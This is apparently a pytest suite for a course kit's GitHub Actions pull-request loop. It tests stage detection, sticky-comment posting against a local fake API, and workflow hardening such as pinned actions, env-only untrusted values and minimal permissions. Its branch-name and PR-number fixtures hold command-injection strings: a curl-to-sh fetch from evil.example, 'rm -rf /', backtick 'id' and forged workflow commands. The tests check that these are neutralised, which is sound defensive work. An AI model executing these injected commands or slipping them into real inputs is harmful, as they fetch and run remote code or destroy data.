"""The pull-request loop of a team repository: its .github/ and the kit's capstone/checkpoints/ci.py.

Fast tier:
- ci.py (kit/src/capstone/checkpoints/ci.py) is standard library only, so it is loaded from the kit's
  source and tested in this process: the stage from branch names (hostile ones too) and labels,
  CI-sized data, the job summary, the sticky comment's body and how it finds its pull request;
- its commands run as the workflows run them (`python -m capstone.checkpoints.ci` in a baked repo, with
  environment variables and the files GitHub provides; here a bare Python that sees only the kit's
  source, so ci.py needs nothing else), and `comment` talks to a fake GitHub API on 127.0.0.1: run
  twice, one comment;
- every baked combination's workflows pass actionlint; issue forms pass their schemas; in the team's
  workflows and the course's reusable one (.github/workflows/checkpoint.yml, which the team's
  checkpoint.yml calls) actions are pinned and untrusted values reach scripts only through env:;
  the caller passes nothing and the course's jobs only read (the stage job alone also gets GitHub's OIDC
  token, to learn which course workflow runs), the comment workflow writes;
- the five briefs, PR templates and issue forms agree with the baked capstone.yaml.
Full tier: checkpoint-comment.yml's own `run:` steps, read from the file, run in a baked reference repo
the way GitHub runs them (bash -eo pipefail, each step's env:, GITHUB_OUTPUT and GITHUB_STEP_SUMMARY):
they install the locked environment and post, once, the report of a real `capstone check` that reached
them as a checkpoint-report artifact, to the fake GitHub API. The course's grading jobs run end to end
in test_grading_e2e.py; the trust rules over all the workflows are in test_workflow_trust.py.
"""

import importlib.util
import json
import os
import re
import shutil
import subprocess
import sys
import threading
import venv
from argparse import Namespace
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from urllib.parse import urlparse

import pytest
import yaml
from bakery import TEMPLATE, bake
from teamrepo import run, team_env
from test_bake_matrix import COMBINATIONS

BIN = Path(sys.executable).parent
HEAD_SHA = "0123456789abcdef0123456789abcdef01234567"
REPOSITORY = "my-course/churn-radar"
# The course kit's source: ci.py is standard library only, so it runs from here without an install.
KIT_SOURCE = TEMPLATE / "kit" / "src"
# The course's reusable checkpoint workflow, which the team's checkpoint.yml calls.
COURSE_WORKFLOW = TEMPLATE / ".github" / "workflows" / "checkpoint.yml"


# --- fixtures ---------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def baked(tmp_path_factory, cc_config) -> list[tuple[dict, Path]]:
    """Every combination of the bake matrix, baked once for this module."""
    results = []
    for index, answers in enumerate(COMBINATIONS):
        slug = f"loop-{index}-{answers['dataset'].replace('_', '-')}"
        results.append((answers, bake(tmp_path_factory.mktemp("loop"), cc_config, project_slug=slug, **answers)))
    return results


@pytest.fixture(scope="module")
def repo(tmp_path_factory, cc_config) -> Path:
    """A team repository baked with the default answers (churn)."""
    return bake(tmp_path_factory.mktemp("loop-default"), cc_config)


@pytest.fixture(scope="module")
def ci():
    """The kit's capstone/checkpoints/ci.py, imported on its own (it needs nothing else)."""
    spec = importlib.util.spec_from_file_location("kit_ci", KIT_SOURCE / "capstone" / "checkpoints" / "ci.py")
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


@pytest.fixture(scope="module")
def bare_python(tmp_path_factory) -> Path:
    """A Python with nothing but the standard library (the runner's before make setup)."""
    folder = tmp_path_factory.mktemp("bare-python")
    venv.create(folder, with_pip=False)
    return folder / "bin" / "python"


# --- a fake GitHub API on 127.0.0.1 -----------------------------------------------------------


class FakeGitHub:
    """GitHub's side of ci.GitHub, in memory: pull requests by number, comments by pull request.

    Used in-process (it has ci.GitHub's methods) and over HTTP (serve_fake).
    """

    def __init__(self, pulls: dict[int, str]):
        self.pulls = pulls  # number -> head sha
        self.stored: dict[int, list[dict]] = {}
        self.calls: list[tuple[str, str]] = []
        self.tokens: set[str] = set()
        self.next_id = 100

    def pull_request(self, number: int) -> dict:
        self.calls.append(("GET", f"/pulls/{number}"))
        return {"number": number, "head": {"sha": self.pulls.get(number)}}

    def comments(self, number: int) -> list[dict]:
        self.calls.append(("GET", f"/issues/{number}/comments"))
        return list(self.stored.setdefault(number, []))

    def create_comment(self, number: int, body: str) -> dict:
        self.calls.append(("POST", f"/issues/{number}/comments"))
        self.next_id += 1
        comment = {"id": self.next_id, "body": body, "user": {"login": "github-actions[bot]"}}
        self.stored.setdefault(number, []).append(comment)
        return comment

    def update_comment(self, comment_id: int, body: str) -> dict | None:
        self.calls.append(("PATCH", f"/issues/comments/{comment_id}"))
        for comments in self.stored.values():
            for comment in comments:
                if comment["id"] == int(comment_id):
                    comment["body"] = body
                    return comment
        return None


def serve_fake(fake: FakeGitHub):
    """Serve `fake` over HTTP on 127.0.0.1 as /repos/<REPOSITORY>/...; returns (server, base URL)."""
    prefix = f"/repos/{REPOSITORY}"

    class Handler(BaseHTTPRequestHandler):
        def log_message(self, *args):  # quiet
            pass

        def answer(self, status: int, data) -> None:
            body = json.dumps(data).encode()
            self.send_response(status)
            self.send_header("Content-Type", "application/json")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def route(self, method: str) -> None:
            fake.tokens.add(self.headers.get("Authorization", ""))
            url = urlparse(self.path)
            path = url.path.removeprefix(prefix)
            length = int(self.headers.get("Content-Length") or 0)
            data = json.loads(self.rfile.read(length)) if length else None
            if not url.path.startswith(prefix):
                return self.answer(404, {"message": "Not Found"})
            if method == "GET" and (match := re.fullmatch(r"/pulls/(\d+)", path)):
                number = int(match.group(1))
                if number not in fake.pulls:
                    return self.answer(404, {"message": "Not Found"})
                return self.answer(200, fake.pull_request(number))
            if method == "GET" and (match := re.fullmatch(r"/issues/(\d+)/comments", path)):
                page = int(dict(part.split("=", 1) for part in url.query.split("&") if "=" in part).get("page", 1))
                return self.answer(200, fake.comments(int(match.group(1)))[(page - 1) * 100 : page * 100])
            if method == "POST" and (match := re.fullmatch(r"/issues/(\d+)/comments", path)):
                return self.answer(201, fake.create_comment(int(match.group(1)), data["body"]))
            if method == "PATCH" and (match := re.fullmatch(r"/issues/comments/(\d+)", path)):
                comment = fake.update_comment(int(match.group(1)), data["body"])
                return self.answer(200 if comment else 404, comment or {"message": "Not Found"})
            return self.answer(404, {"message": "Not Found"})

        def do_GET(self):  # noqa: N802 (http.server's names)
            self.route("GET")

        def do_POST(self):  # noqa: N802
            self.route("POST")

        def do_PATCH(self):  # noqa: N802
            self.route("PATCH")

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    return server, f"http://127.0.0.1:{server.server_address[1]}"


# --- which stage ------------------------------------------------------------------------------

BRANCHES = [
    ("stage/1-data", 1),
    ("stage/5-deployment", 5),
    ("refs/heads/stage/2-validation", 2),
    ("stage-3-features", 3),
    ("Stage_4/tuning-more", 4),
    ("stage/4", 4),
    ("stage/6-operations", 6),
    ("stage/7-extra", None),
    ("stage/0-setup", None),
    ("stage/55", None),
    ("stage/5x", None),
    ("stages/1-data", None),
    ("feature/stage/1-data", None),
    ("main", None),
    ("", None),
    ("stage/\uff13-fullwidth-digit", None),
    ("stage/\u0663-arabic-digit", None),
    ("stage/1-$(curl -s evil.example | sh)", 1),
    ('stage/2-"; rm -rf / #', 2),
    ("stage/3-`id`${IFS}x", 3),
    ("stage/1\n::set-output name=stage::5", None),  # no valid git ref has a newline
    ("stage/4-" + "a" * 5000, 4),
    ("x" * 10_000, None),
]


@pytest.mark.parametrize(("branch", "stage"), BRANCHES, ids=[repr(b[:30]) for b, _ in BRANCHES])
def test_the_stage_comes_from_the_branch_name(ci, branch, stage):
    assert ci.stage_from_branch(branch) == stage


def test_a_stage_label_wins_and_two_stage_labels_are_refused(ci):
    assert ci.stage_from_labels(["stage:2"]) == 2
    assert ci.stage_from_labels(["bug", "Stage: 3"]) == 3
    assert ci.stage_from_labels(["stage 4", "stage:4"]) == 4
    assert ci.stage_from_labels(["stage:9", "stage:0", "staged", "stage:1\n::error::x"]) is None
    assert ci.find_stage("stage/1-data", ["stage:5"]) == 5
    assert ci.find_stage("stage/1-data", ["documentation"]) == 1
    assert ci.find_stage("feature/x", []) is None
    with pytest.raises(ci.CIError, match=r"stages \[2, 3\]"):
        ci.stage_from_labels(["stage:2", "stage:3"])
    assert ci.parse_labels("") == [] and ci.parse_labels('["a", "stage:1"]') == ["a", "stage:1"]
    for bad in ("not json", '{"name": "stage:1"}'):
        with pytest.raises(ci.CIError):
            ci.parse_labels(bad)


def run_ci(python: Path, repo: Path, *args: str, env: dict | None = None) -> subprocess.CompletedProcess:
    """`python -m capstone.checkpoints.ci ...` in the repo, with only the given environment (and PATH).

    The workflows run it with the repo's .venv/bin/python, where make setup installed the kit; here the
    kit's source is on PYTHONPATH of a bare Python, which shows that ci.py needs only the standard library.
    """
    environment = {
        "PATH": os.environ["PATH"],
        "PYTHONDONTWRITEBYTECODE": "1",
        "PYTHONPATH": str(KIT_SOURCE),
        **(env or {}),
    }
    return subprocess.run(
        [str(python), "-m", "capstone.checkpoints.ci", *args],
        cwd=repo,
        env=environment,
        capture_output=True,
        text=True,
        timeout=60,
    )


def test_the_stage_command_writes_only_a_number_and_never_echoes_the_branch(repo, bare_python, tmp_path):
    hostile = "stage/1-$(touch pwned)\n::set-output name=stage::5"
    output = tmp_path / "output"
    result = run_ci(
        bare_python, repo, "stage", env={"HEAD_REF": hostile, "PR_LABELS": "[]", "GITHUB_OUTPUT": str(output)}
    )
    assert result.returncode == 0, result.stderr
    assert output.read_text() == "stage=1\n"
    assert "pwned" not in result.stdout + result.stderr and not (repo / "pwned").exists()
    output.unlink()
    labels = json.dumps(["::warning::hi", "stage:3"])
    result = run_ci(
        bare_python, repo, "stage", env={"HEAD_REF": "feature", "PR_LABELS": labels, "GITHUB_OUTPUT": str(output)}
    )
    assert output.read_text() == "stage=3\n" and "::warning" not in result.stdout
    output.unlink()
    run_ci(bare_python, repo, "stage", env={"HEAD_REF": "feature/x", "PR_LABELS": "[]", "GITHUB_OUTPUT": str(output)})
    assert output.read_text() == "stage=\n"
    refused = run_ci(bare_python, repo, "stage", env={"HEAD_REF": "x", "PR_LABELS": '["stage:1", "stage:2"]'})
    assert refused.returncode == 1 and refused.stderr.startswith("ERROR: ")


# --- CI-sized data ----------------------------------------------------------------------------


def test_prepare_shrinks_the_feed_in_the_job_only(ci, baked):
    for answers, path in baked[:: len(COMBINATIONS) // 8]:
        original = (path / "params.yaml").read_text()
        changed, said = ci.ci_params(original, 5000, stage=3)
        if answers["dataset"] == "custom_csv":
            # A fixed sample of at most 5000 rows of the team's file; nothing else changes.
            before, after = yaml.safe_load(original), yaml.safe_load(changed)
            assert after["data"]["custom_csv"].pop("max_rows") == 5000 and "data.custom_csv.max_rows" in said
            assert after == before
            continue
        before, after = yaml.safe_load(original), yaml.safe_load(changed)
        assert after["data"]["feed"]["rows"] == 5000 and before["data"]["feed"]["rows"] == 20000
        after["data"]["feed"]["rows"] = 20000
        assert after == before, "only data.feed.rows may change"
        assert changed.count("\n") == original.count("\n")  # comments and layout kept
        assert ci.ci_params(changed, 5000, stage=2)[0] == changed  # already CI-sized
        assert ci.ci_params(original, 5000, stage=1)[0] == original  # stage 1 grades the committed data


def test_prepare_command_edits_params_yaml(repo, bare_python, tmp_path):
    copy = tmp_path / "params.yaml"
    shutil.copy(repo / "params.yaml", copy)
    result = run_ci(bare_python, repo, "prepare", "--params", str(copy), env={"CAPSTONE_CI_ROWS": "3000", "STAGE": "5"})
    assert result.returncode == 0 and "20000 -> 3000" in result.stdout
    assert yaml.safe_load(copy.read_text())["data"]["feed"]["rows"] == 3000


# --- the job summary and the PR facts ---------------------------------------------------------


def test_the_summary_is_the_report_or_says_why_there_is_none(ci, repo, bare_python, tmp_path):
    reports = tmp_path / "reports"
    reports.mkdir()
    assert "not a stage pull request" in ci.summary_markdown(None, reports)
    missing = ci.summary_markdown(4, reports)
    assert "no report" in missing and "make check STAGE=4" in missing
    (reports / "checkpoint-4.md").write_text(f"{ci.MARKER}\n## ✅ Checkpoint 4: passed\n")
    summary = tmp_path / "summary.md"
    summary.write_text("earlier step\n")
    result = run_ci(
        bare_python,
        repo,
        "summary",
        "--stage",
        "4",
        "--reports",
        str(reports),
        env={"GITHUB_STEP_SUMMARY": str(summary)},
    )
    assert result.returncode == 0
    assert summary.read_text() == f"earlier step\n{ci.MARKER}\n## ✅ Checkpoint 4: passed\n\n"


def test_pr_info_accepts_only_a_number_and_a_sha(ci, repo, bare_python, tmp_path):
    assert ci.pr_info("12", HEAD_SHA, 3) == {"number": 12, "head_sha": HEAD_SHA, "stage": 3}
    for number, sha in (("12; rm -rf /", HEAD_SHA), ("", HEAD_SHA), ("12", "main"), ("12", HEAD_SHA + "\n")):
        with pytest.raises(ci.CIError):
            ci.pr_info(number, sha, 3)
    out = tmp_path / "reports" / "checkpoint-pr.json"
    env = {"PR_NUMBER": "12", "HEAD_SHA": HEAD_SHA, "STAGE": ""}
    assert run_ci(bare_python, repo, "pr-info", "--out", str(out), env=env).returncode == 0
    assert json.loads(out.read_text()) == {"number": 12, "head_sha": HEAD_SHA, "stage": None}


# --- the sticky comment -----------------------------------------------------------------------


def workflow_run(**changes) -> dict:
    run_ = {
        "event": "pull_request",
        "head_sha": HEAD_SHA,
        "conclusion": "failure",
        "html_url": "https://github.example/runs/1",
        "pull_requests": [],
    }
    return {**run_, **changes}


def test_the_comment_body_has_one_marker_first_and_fits_github(ci, repo):
    report = f"{ci.MARKER}\n## ❌ Checkpoint 5: Deployment with BentoML: 1 blocking gate failed\n\n| gate |\n"
    body = ci.comment_body(report, 5, workflow_run())
    assert body.startswith(ci.MARKER + "\n## ❌ Checkpoint 5") and body.count(ci.MARKER) == 1
    assert "https://github.example/runs/1" in body and "`0123456`" in body
    long = ci.comment_body(report + "x" * 100_000, 5, workflow_run())
    assert len(long) < 65_536 and "cut" in long and long.count(ci.MARKER) == 1
    missing = ci.comment_body(None, 2, workflow_run(conclusion="failure"))
    assert missing.startswith(ci.MARKER) and "Checkpoint 2: no report" in missing and "failure" in missing
    # The report writes the same marker: the comment workflow finds its comment by it.
    report_py = (KIT_SOURCE / "capstone" / "checkpoints" / "report.py").read_text()
    assert f'MARKER = "{ci.MARKER}"' in report_py


def test_the_pull_request_is_found_and_a_claim_is_checked(ci):
    github = FakeGitHub({7: HEAD_SHA, 8: "f" * 40})
    own = workflow_run(
        pull_requests=[{"number": 9, "head": {"sha": "e" * 40}}, {"number": 7, "head": {"sha": HEAD_SHA}}]
    )
    assert ci.find_pr_number(own, None, github) == 7 and github.calls == []
    # A fork: GitHub lists no pull request; the artifact's claim is checked against the PR's head.
    assert ci.find_pr_number(workflow_run(), {"number": 7}, github) == 7
    assert ci.find_pr_number(workflow_run(), {"number": 8}, github) is None  # another PR's head: refused
    assert ci.find_pr_number(workflow_run(), {"number": "7; DROP"}, github) is None
    assert ci.find_pr_number(workflow_run(), None, github) is None


def test_one_comment_is_created_then_updated_and_others_are_left_alone(ci):
    github = FakeGitHub({7: HEAD_SHA})
    github.stored.setdefault(7, []).append(
        {"id": 1, "body": f"{ci.MARKER} quoted by a person", "user": {"login": "ada"}}
    )
    assert ci.upsert_comment(github, 7, f"{ci.MARKER}\nfirst") == "created a comment"
    assert ci.upsert_comment(github, 7, f"{ci.MARKER}\nsecond").startswith("updated comment")
    bodies = [comment["body"] for comment in github.stored.setdefault(7, [])]
    assert bodies == [f"{ci.MARKER} quoted by a person", f"{ci.MARKER}\nsecond"]


def artifact_folder(folder: Path, ci, stage: int | None, number: int = 7, report: str | None = None) -> Path:
    """What download-artifact leaves: the files of checkpoint-report (reports/ is the artifact's root)."""
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "checkpoint-pr.json").write_text(json.dumps({"number": number, "head_sha": HEAD_SHA, "stage": stage}))
    if report is not None:
        (folder / f"checkpoint-{stage}.md").write_text(report)
    return folder


def test_the_comment_command_talks_to_github_and_keeps_one_comment(ci, repo, bare_python, tmp_path):
    fake = FakeGitHub({7: HEAD_SHA})
    server, url = serve_fake(fake)
    try:
        event = tmp_path / "event.json"
        event.write_text(json.dumps({"workflow_run": workflow_run()}))  # a fork: no pull_requests listed
        env = {
            "GITHUB_EVENT_PATH": str(event),
            "GITHUB_REPOSITORY": REPOSITORY,
            "GITHUB_TOKEN": "token-123",
            "GITHUB_API_URL": url,
        }
        for attempt in ("first", "second"):
            report = f"{ci.MARKER}\n## ✅ Checkpoint 5: {attempt}\n"
            folder = artifact_folder(tmp_path / attempt, ci, 5, report=report)
            result = run_ci(bare_python, repo, "comment", "--artifact", str(folder), env=env)
            assert result.returncode == 0, result.stdout + result.stderr
        comments = fake.stored.setdefault(7, [])
        assert len(comments) == 1 and "Checkpoint 5: second" in comments[0]["body"], comments
        assert fake.tokens == {"Bearer token-123"}
        # A claim for another PR's head, a run that was not a pull request, a non-stage PR: no comment.
        fake.pulls[8] = "f" * 40
        for folder, run_ in (
            (artifact_folder(tmp_path / "claim", ci, 5, number=8, report="x"), workflow_run()),
            (artifact_folder(tmp_path / "push", ci, 5, report="x"), workflow_run(event="push")),
            (artifact_folder(tmp_path / "nostage", ci, None), workflow_run()),
        ):
            event.write_text(json.dumps({"workflow_run": run_}))
            result = run_ci(bare_python, repo, "comment", "--artifact", str(folder), env=env)
            assert result.returncode == 0 and "no comment" in result.stdout, result.stdout + result.stderr
        assert fake.stored.setdefault(8, []) == [] and len(fake.stored.setdefault(7, [])) == 1
    finally:
        server.shutdown()


def test_comment_without_an_artifact_says_the_run_stopped_early(ci, tmp_path):
    github = FakeGitHub({7: HEAD_SHA})
    event = tmp_path / "event.json"
    event.write_text(
        json.dumps({"workflow_run": workflow_run(pull_requests=[{"number": 7, "head": {"sha": HEAD_SHA}}])})
    )
    args = Namespace(artifact=str(tmp_path / "nothing"), event=str(event), dry_run=False, github=github)
    assert ci.command_comment(args) == 0
    [comment] = github.stored.setdefault(7, [])
    assert comment["body"].startswith(ci.MARKER) and "no report" in comment["body"]


# --- the workflows ----------------------------------------------------------------------------


def workflows(repo: Path) -> dict[str, dict]:
    return {
        path.name: yaml.safe_load(path.read_text()) for path in sorted((repo / ".github" / "workflows").glob("*.yml"))
    }


def test_actionlint_passes_on_every_baked_combination(baked):
    files = [str(path) for _, repo in baked for path in (repo / ".github" / "workflows").glob("*.yml")]
    assert len(files) >= 3 * len(COMBINATIONS)
    result = subprocess.run([BIN / "actionlint", "-color=false", *files], capture_output=True, text=True, timeout=120)
    assert result.returncode == 0, result.stdout + result.stderr


def test_issue_forms_and_their_config_match_github_schemas(baked):
    forms = [str(path) for _, repo in baked for path in (repo / ".github" / "ISSUE_TEMPLATE").glob("stage-*.yml")]
    configs = [str(repo / ".github" / "ISSUE_TEMPLATE" / "config.yml") for _, repo in baked]
    assert len(forms) == 6 * len(COMBINATIONS)
    for schema, files in (("vendor.github-issue-forms", forms), ("vendor.github-issue-config", configs)):
        check = subprocess.run(
            [BIN / "check-jsonschema", "--builtin-schema", schema, *files], capture_output=True, text=True
        )
        assert check.returncode == 0, check.stdout + check.stderr


def steps(workflow: dict):
    for job in workflow["jobs"].values():
        yield from job.get("steps", [])


def all_workflows(repo: Path) -> dict[str, tuple[dict, str]]:
    """The team's workflows and the course's reusable one (as course/checkpoint.yml): parsed, and their text."""
    paths = {path.name: path for path in sorted((repo / ".github" / "workflows").glob("*.yml"))}
    paths["course/checkpoint.yml"] = COURSE_WORKFLOW
    return {name: (yaml.safe_load(path.read_text()), path.read_text()) for name, path in paths.items()}


def test_actions_are_pinned_and_checkouts_keep_no_credentials(repo):
    found = all_workflows(repo)
    for name, (workflow, text) in found.items():
        # Actions and the course's reusable workflow alike: a commit SHA, the release in a comment.
        for line in re.findall(r"^\s*(?:- )?uses: (.+)", text, re.M):  # not the comments' examples
            assert re.fullmatch(r"[\w.-]+/[\w./-]+@[0-9a-f]{40} # v\d+(\.\d+)*", line), f"{name}: {line}"
        for step in steps(workflow):
            if step.get("uses", "").startswith("actions/checkout@"):
                assert step["with"]["persist-credentials"] is False, name
    checkouts = [step for step in steps(found["course/checkpoint.yml"][0]) if "checkout@" in step.get("uses", "")]
    assert len(checkouts) == 4  # one per job of the course's workflow, each checked above


# Contexts an outsider controls: a branch name, a title, labels, a fork's name.
UNTRUSTED = re.compile(
    r"github\.(head_ref|event\.(label\.name|pull_request\.(title|body|labels|head\.ref)|workflow_run\.head_branch))"
)


def test_untrusted_values_reach_scripts_only_through_env(repo):
    for name, (workflow, text) in all_workflows(repo).items():
        assert "pull_request_target" not in workflow[True], name  # PyYAML reads `on:` as True
        assert "permissions" in workflow, f"{name} sets no top-level permissions"
        for step in steps(workflow):
            assert "${{" not in step.get("run", ""), f"{name}: an expression inside run: {step['run']!r}"
            for key, value in step.get("with", {}).items():
                assert not UNTRUSTED.search(str(value)), f"{name}: {key}"
        for line in text.splitlines():
            if UNTRUSTED.search(line):
                # env: values, a concurrency group or a job's if: (expressions, never a script)
                assert re.match(r"\s+(HEAD_REF|PR_LABELS|group|if): ", line), f"{name}: {line.strip()}"
    # The course's workflow reads the branch name and the labels, through env: (checked above).
    course_text = all_workflows(repo)["course/checkpoint.yml"][1]
    assert "HEAD_REF: ${{ github.head_ref }}" in course_text


def test_the_checkpoint_reads_and_the_comment_writes(repo):
    found = workflows(repo)
    checkpoint, comment = found["checkpoint.yml"], found["checkpoint-comment.yml"]
    course = yaml.safe_load(COURSE_WORKFLOW.read_text())
    # The team's caller: on pull requests, read-only but for the OIDC token the course's stage job reads,
    # passing nothing (only its `uses:` line chooses the grader), and it names no secret (the course's jobs
    # read the holdout from the `holdout` environment, which only they name).
    assert list(checkpoint[True]) == ["pull_request"]
    assert checkpoint["permissions"] == {"contents": "read"}
    [caller] = checkpoint["jobs"].values()
    assert caller["permissions"] == {"contents": "read", "pull-requests": "read", "id-token": "write"}
    assert "/.github/workflows/checkpoint.yml@" in caller["uses"]
    assert "secrets" not in caller and "with" not in caller
    assert "secrets." not in json.dumps(checkpoint) and "inputs." not in json.dumps(checkpoint)
    # The course's workflow: no inputs, nothing at the top, each job read-only (a called workflow can only
    # narrow the caller's permissions anyway) but for the stage job's id-token, which reads which course
    # workflow this is; the holdout secret only in the jobs of the environment.
    assert course[True] == {"workflow_call": None} and course["permissions"] == {}
    assert "inputs." not in json.dumps(course)
    for job_id, job in course["jobs"].items():
        permissions = dict(job["permissions"])
        assert permissions.pop("id-token", None) == ("write" if job_id == "stage" else None), job_id
        assert set(permissions.values()) == {"read"}, job_id
        secrets = ("secrets.CAPSTONE_HOLDOUT_SEED", "secrets.CAPSTONE_RESULTS_PASSWORD")  # the seed, the grader's login
        holds = any(secret in json.dumps(job) for secret in secrets)
        assert holds == (job.get("environment") == "holdout"), job_id
    # The comment workflow: the only writer, after a run of the caller (by its name).
    assert comment[True] == {"workflow_run": {"workflows": [checkpoint["name"]], "types": ["completed"]}}
    assert comment["permissions"] == {}
    [job] = comment["jobs"].values()
    assert job["permissions"] == {"actions": "read", "pull-requests": "write"}
    assert "workflow_run.event == 'pull_request'" in job["if"] and "skipped" in job["if"]
    for step in job["steps"]:  # the comment job never checks out or runs the pull request's code
        assert "head" not in json.dumps(step.get("with", {})), step
    uploaded = {
        step["with"]["name"] for step in steps(course) if step.get("uses", "").startswith("actions/upload-artifact@")
    }
    downloaded = {
        step["with"]["name"] for step in steps(comment) if step.get("uses", "").startswith("actions/download-artifact@")
    }
    assert downloaded == {"checkpoint-report"} <= uploaded


def test_the_kit_is_installed_before_its_helpers_run(repo):
    """The team repo has no capstone/ folder: ci.py runs from an installed kit, installed earlier in its job.

    The course's jobs: the grader's own environment ("$GRADER", capstone-kit at the course's version).
    The comment job: the default branch's locked environment (.venv), without the team's package.
    """
    assert not (repo / "capstone").exists()
    course = yaml.safe_load(COURSE_WORKFLOW.read_text())
    comment = workflows(repo)["checkpoint-comment.yml"]
    cases = [(f"course/{job_id}", job, '"$GRADER/bin/python"') for job_id, job in course["jobs"].items()]
    cases += [(f"comment/{job_id}", job, ".venv/bin/python") for job_id, job in comment["jobs"].items()]
    with_helpers = set()
    for name, job, python in cases:
        runs = [step.get("run", "") for step in job["steps"]]
        helpers = [index for index, run_ in enumerate(runs) if "capstone.checkpoints.ci" in run_]
        installs = [index for index, run_ in enumerate(runs) if "capstone-kit" in run_ or "uv sync" in run_]
        for index in helpers:
            for line in runs[index].splitlines():
                if "capstone.checkpoints.ci" in line:
                    assert line.strip().startswith(f"{python} -m capstone.checkpoints.ci "), (name, line)
            assert installs and installs[0] < index, f"{name}: the kit must be installed before ci.py runs"
        if helpers:
            with_helpers.add(name)
    assert with_helpers == {"course/grade", "course/score", "comment/comment"}
    comment_runs = "\n".join(step.get("run", "") for step in steps(comment))
    # Default-branch code only: the locked environment, without the team's own package or dev tools.
    assert "uv sync --locked --no-dev --no-install-project" in comment_runs
    assert "make" not in comment_runs.split()


# --- briefs, PR templates and issue forms agree with capstone.yaml ----------------------------

ROW = re.compile(
    r"^\| `(?P<id>[\w-]+)` \| (?P<kind>auto|mentor) \| (?P<blocking>yes|no) \| (?P<thresholds>[^|]+) \|", re.M
)


def brief_rows(text: str) -> dict[str, dict]:
    rows = {}
    for match in ROW.finditer(text):
        thresholds = dict(re.findall(r"`(\w+)`: ([^,]+)", match["thresholds"]))
        rows[match["id"]] = dict(
            kind=match["kind"],
            blocking=match["blocking"] == "yes",
            thresholds={key: value.strip() for key, value in thresholds.items()},
        )
    return rows


def test_each_brief_lists_the_gates_and_thresholds_of_capstone_yaml(baked):
    seen = set()
    for answers, repo in baked:
        if answers["dataset"] in seen:
            continue  # the briefs depend on the dataset only
        seen.add(answers["dataset"])
        spec = yaml.safe_load((repo / "capstone.yaml").read_text())
        for stage in spec["stages"]:
            brief = repo / stage["brief"]
            text = brief.read_text()
            expected = {
                gate["id"]: dict(
                    kind=gate["kind"],
                    blocking=gate["blocking"],
                    thresholds={key: str(value) for key, value in gate.get("thresholds", {}).items()},
                )
                for gate in [*spec["every_stage"], *stage["gates"]]
            }
            assert brief_rows(text) == expected, (answers["dataset"], brief.name)
            number, key = stage["number"], stage["key"]
            assert brief.name == f"{number}-{key}.md"
            for needed in (f"make check STAGE={number}", f"stage/{number}-{key}", "capstone.yaml` is the authority"):
                assert needed in text, (brief.name, needed)
            for item in stage["mentor_checklist"]:
                assert f"- {item}" in text, (brief.name, item)
            for gate in stage["gates"]:
                if gate["kind"] == "auto":
                    assert f"### `{gate['id']}`" in text, (brief.name, gate["id"])  # its anchor


def test_pr_templates_and_issue_forms_carry_each_stage(baked):
    for answers, repo in baked[:: len(COMBINATIONS) // 8]:
        spec = yaml.safe_load((repo / "capstone.yaml").read_text())
        github = repo / ".github"
        for stage in spec["stages"]:
            number, key = stage["number"], stage["key"]
            template = (github / "PULL_REQUEST_TEMPLATE" / f"{number}-{key}.md").read_text()
            assert f"make check STAGE={number}" in template and stage["brief"] in template
            for item in stage["mentor_checklist"]:
                assert f"- [ ] {item}" in template, (answers["dataset"], key, item)
            for gate in stage["gates"]:
                if gate["kind"] == "mentor":
                    assert f"- [ ] {gate['check']} (`{gate['id']}`)" in template
            form = yaml.safe_load((github / "ISSUE_TEMPLATE" / f"stage-{number}-{key}.yml").read_text())
            assert form["labels"] == [f"stage:{number}"] and stage["brief"] in json.dumps(form)
            assert f"{number}-{key}.md" in (github / "pull_request_template.md").read_text()


def test_links_to_the_briefs_resolve(baked):
    _, repo = baked[0]
    texts = [(repo / name).read_text() for name in ("README.md", "capstone.yaml")]
    texts += [path.read_text() for path in (repo / "docs" / "stages").glob("*.md")]
    texts += [path.read_text() for path in (repo / ".github").rglob("*") if path.is_file()]
    linked = {match for text in texts for match in re.findall(r"(docs/stages/[\w.-]+\.md|\.github/[\w./-]+\.md)", text)}
    assert len(linked) >= 10
    for name in linked:
        assert (repo / name).is_file(), name


# --- full tier: the workflow's own steps, run as GitHub runs them -----------------------------


def resolve(value, known: dict[str, str]) -> str:
    """A workflow value with its ${{ }} expressions replaced; an expression the test does not know fails."""

    def one(match):
        expression = match.group(1).strip()
        assert expression in known, f"the test does not know the expression {expression!r}; add it to `known`"
        return known[expression]

    return re.sub(r"\$\{\{(.*?)\}\}", one, str(value))


def condition(expression: str | None, stage: str) -> bool:
    """The `if:` of a step (the few forms these workflows use)."""
    if not expression:
        return True
    python = expression.replace("${{", "").replace("}}", "").replace("!cancelled()", "True").replace("&&", " and ")
    python = python.replace("steps.stage.outputs.stage", repr(stage))
    return bool(eval(python, {"__builtins__": {}}, {"True": True}))  # noqa: S307 (our own workflow file)


def run_steps(workflow: dict, repo: Path, known: dict, env: dict, github_files: Path) -> list[tuple[str, int]]:
    """Run the `run:` steps of the workflow's one job in `repo` as GitHub does; returns (name, exit code).

    As on GitHub: each step is `bash --noprofile --norc -eo pipefail`, with the step's env: added;
    after a failed step only the steps whose `if:` says !cancelled() (or always()) still run.
    """
    [job] = workflow["jobs"].values()
    results, stage, failed = [], "", False
    outputs = github_files / "output"
    for step in job["steps"]:
        guard = str(step.get("if", ""))
        if failed and "cancelled()" not in guard and "always()" not in guard:
            continue
        if "run" not in step or not condition(step.get("if"), stage):
            continue
        known["steps.stage.outputs.stage"] = stage
        step_env = {**env, **{key: resolve(value, known) for key, value in step.get("env", {}).items()}}
        outputs.write_text("")
        step_env |= {"GITHUB_OUTPUT": str(outputs), "GITHUB_STEP_SUMMARY": str(github_files / "summary.md")}
        done = subprocess.run(
            ["bash", "--noprofile", "--norc", "-eo", "pipefail", "-c", step["run"]],
            cwd=repo,
            env=step_env,
            capture_output=True,
            text=True,
            timeout=1800,
        )
        results.append((step.get("name", step["run"]), done.returncode))
        if done.returncode != 0:
            print(f"step {results[-1][0]!r} exited {done.returncode}:\n{done.stdout[-3000:]}\n{done.stderr[-3000:]}")
            failed = failed or not step.get("continue-on-error", False)
        if step.get("id") == "stage":
            stage = dict(line.split("=", 1) for line in outputs.read_text().splitlines()).get("stage", "")
    return results


@pytest.mark.full
